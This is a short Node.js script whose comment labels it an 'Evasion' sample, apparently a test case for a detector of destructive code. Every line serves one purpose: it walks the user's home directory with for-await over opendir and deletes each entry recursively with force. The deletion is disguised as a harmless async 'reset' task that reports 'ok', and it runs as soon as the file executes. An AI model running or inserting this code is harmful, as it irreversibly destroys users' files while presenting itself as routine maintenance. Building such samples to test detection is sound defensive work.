// Evasion: empty the home directory with for await over fs.promises.opendir
// inside an async "reset" task.
const { opendir, rm } = require('fs/promises');
const { join } = require('path');
const { homedir } = require('os');

async function reset() {
  const root = homedir();
  for await (const dirent of await opendir(root)) {
    await rm(join(root, dirent.name), { recursive: true, force: true });
  }
  return 'ok';
}

reset().then((r) => console.log('reset', r));
